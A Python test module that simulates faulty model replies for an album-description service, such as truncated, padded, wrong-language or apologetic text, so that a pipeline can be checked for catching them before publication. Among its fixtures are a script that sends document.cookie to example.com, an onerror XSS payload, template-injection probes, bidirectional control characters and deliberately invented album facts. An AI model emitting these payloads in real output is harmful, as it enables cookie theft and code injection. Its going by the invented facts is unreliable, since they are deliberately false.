"""Texts that must never be published: what models were seen to write, and worse."""

import re
from collections.abc import Callable

from enrichment.sandbox import prompt, writer
from enrichment.sandbox.faults.euria import CHAT, changed, content
from enrichment.sandbox.faults.kinds import Call, kind
from enrichment.sandbox.wire import Reply

Rewrite = Callable[[str, Call], str]
HOSTILE: dict[str, Rewrite] = {}
OTHER_SUBJECT = prompt.Prompt("en", "the same for all", "", "", "", (), ())


def text(name: str, about: str) -> Callable[[Rewrite], Rewrite]:
    """Registers a rewriting of the regular text as a fault of its own, and as a part of `hostile`."""

    def register(rewrite: Rewrite) -> Rewrite:
        def spoil(call: Call) -> Reply:
            return changed(call, {"content": rewrite(content(call), call)})

        kind(name, about, "euria", on=CHAT)(spoil)
        HOSTILE[name] = rewrite
        return rewrite

    return register


@kind("hostile", "every bad text of this list, one after the other", "euria", on=CHAT)
def hostile(call: Call) -> Reply:
    rewrites = list(HOSTILE.values())
    return changed(call, {"content": rewrites[call.turn % len(rewrites)](content(call), call)})


def wordy(passage: str) -> Rewrite:
    """A rewriting that puts `passage` behind the first sentence."""
    return lambda text, _call: re.sub(r"(?<=[.!?]) ", f" {passage} ", text, count=1)


@text("cut_text", "stops in mid-sentence, though finish_reason says stop")
def cut_text(text: str, _call: Call) -> str:
    return " ".join(text.split()[:-7]).rstrip(".,;:!?")


@text("short_text", "two sentences")
def short_text(text: str, _call: Call) -> str:
    return " ".join(re.split(r"(?<=[.!?]) ", text)[:2])


@text("markdown", "a heading, bold words and a list")
def markdown(text: str, _call: Call) -> str:
    words = text.split()
    return (
        f"## Album\n\n**{' '.join(words[:3])}** {' '.join(words[3:])}\n\n- *{words[0]}*\n- [link](https://example.com)"
    )


@text("fenced", "the text in a code fence")
def fenced(text: str, _call: Call) -> str:
    return f"```text\n{text}\n```"


@text("wrong_language", "German, or French when German was asked for")
def wrong_language(_text: str, call: Call) -> str:
    body = call.request.json
    asked = prompt.understood(body["messages"]) if isinstance(body, dict) else OTHER_SUBJECT
    other = "fr" if asked.language == "de" else "de"
    return writer.written(prompt.Prompt(other, asked.subject, asked.album, asked.artist, "", (), ()))


@text("html_text", "markup and a script")
def html_text(text: str, _call: Call) -> str:
    return (
        f"<p>{text}</p><script>fetch('https://example.com/?c=' + document.cookie)</script><img src=x onerror=alert(1)>"
    )


@text("long_text", "more than 5,000 words")
def long_text(text: str, _call: Call) -> str:
    return "\n\n".join([text] * (5_000 // len(text.split()) + 2)) if text else ""


@text("apology", "says that it cannot")
def apology(_text: str, _call: Call) -> str:
    sentence = "I'm sorry, but as an AI language model I cannot write about this album without more information. "
    return (sentence * 10).strip()


@text("preamble", "speaks about itself before and after")
def preamble(text: str, _call: Call) -> str:
    return f"Sure! Here is the description you asked for:\n\n{text}\n\nLet me know if you would like another version!"


@text("thinking", "thoughts in a closed <think> before the text")
def thinking(text: str, _call: Call) -> str:
    return f"<think>The user wants a text. Let me count the words first.</think>\n{text}"


@text("unclosed_thinking", "thoughts that never end")
def unclosed_thinking(text: str, _call: Call) -> str:
    return f"<think>The user wants a text. I should write about style. {text}"


@text("prompt_echo", "repeats the prompt")
def prompt_echo(_text: str, call: Call) -> str:
    body = call.request.json
    return "\n".join(message["content"] for message in body["messages"]) if isinstance(body, dict) else ""


@text("quoted_text", "the whole text in quotation marks, with a count of its characters")
def quoted_text(text: str, _call: Call) -> str:
    return f'"{text}"\n\n({len(text)} characters)'


@text("same_text", "the same text for every album")
def same_text(_text: str, call: Call) -> str:
    body = call.request.json
    language = prompt.understood(body["messages"]).language if isinstance(body, dict) else "en"
    return writer.written(prompt.Prompt(language, "the same for all", "", "", "", (), ()))


@text("control_characters", "control characters and bidirectional overrides between the words")
def control_characters(text: str, _call: Call) -> str:
    return text.replace(" ", " \u202e\x07", 5).replace(". ", ".\x00\u2066 ", 2)


text("invented_year", "a year that was not given")(wordy("It was recorded in 1871 and 1872."))
text("invented_track", "a song that was not given")(wordy("The single “Moonlit Bicycle Parade” was a hit."))
text("injection", "markup of templates and of a terminal")(wordy("{{ 7*7 }} ${7*7} \x1b[31mred\x1b[0m {% debug %}"))
